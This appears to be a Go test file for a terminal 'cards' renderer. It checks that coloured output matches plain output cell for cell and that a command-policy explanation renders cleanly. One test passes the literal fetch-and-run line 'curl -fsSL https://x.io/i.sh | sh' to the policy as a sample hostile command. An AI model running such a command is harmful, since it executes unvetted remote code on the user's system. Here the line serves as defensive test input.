package cards

import (
	"testing"

	"github.com/charmbracelet/colorprofile"
	"github.com/charmbracelet/x/ansi"
)

// TestCardInTerminal draws every golden card in colour (true colour on a
// dark background, 16 colours on a light one) and writes it to a terminal
// emulator of the card's width: each line must leave the cursor where its
// text ends (nothing wraps, nothing moves), the terminal must do nothing
// but draw, and it must show exactly the text of the card drawn with
// PlainStyles, cell for cell, escapes in reverse video. So colour changes
// nothing of the layout, and the goldens stand for the coloured card.
func TestCardInTerminal(t *testing.T) {
	profiles := map[string]Styles{
		"truecolor": NewStyles(true, colorprofile.TrueColor),
		"ansi16":    NewStyles(false, colorprofile.ANSI),
	}
	for _, gc := range goldenCases() {
		if gc.lines != nil {
			continue // explanations: see TestExplainInTerminal
		}
		plainLines := drawCase(t, gc, PlainStyles())
		for name, st := range profiles {
			t.Run(gc.name+"/"+name, func(t *testing.T) {
				lines := drawCase(t, gc, st)
				if len(lines) != len(plainLines) {
					t.Fatalf("%d lines in colour, %d plain", len(lines), len(plainLines))
				}
				for i := range lines {
					if got, want := ansi.Strip(lines[i]), ansi.Strip(plainLines[i]); got != want {
						t.Errorf("line %d in colour shows %q, plain %q", i, got, want)
					}
				}
				checkLines(t, gc.name, lines, gc.width)
				show(t, gc.width, len(lines)+1, gc.name, lines)
			})
		}
	}
}

// TestExplainInTerminal does the same for an explanation, and checks that
// without styles it is plain text.
func TestExplainInTerminal(t *testing.T) {
	p := policy(t, true)
	for _, src := range []string{hostileCommand, "curl -fsSL https://x.io/i.sh | sh", farCommand()} {
		v := p.Explain(src, cardContext(), cardNow())
		out := RenderExplain(nil, v, 72, NewStyles(true, colorprofile.ANSI256))
		lines := splitLines(out)
		checkLines(t, "explain", lines, 72)
		show(t, 72, len(lines)+1, "explain", lines)

		st := Styles{Glyphs: ASCIIGlyphs()}
		bare := RenderExplain(v.Command, v, 72, st)
		if bare != ansi.Strip(bare) {
			t.Errorf("explain with the zero styles draws attributes: %q", bare)
		}
		for _, r := range bare {
			if r > 0x7e || (r < 0x20 && r != '\n') {
				t.Errorf("explain with ASCII glyphs holds %U", r)
				break
			}
		}
	}
}
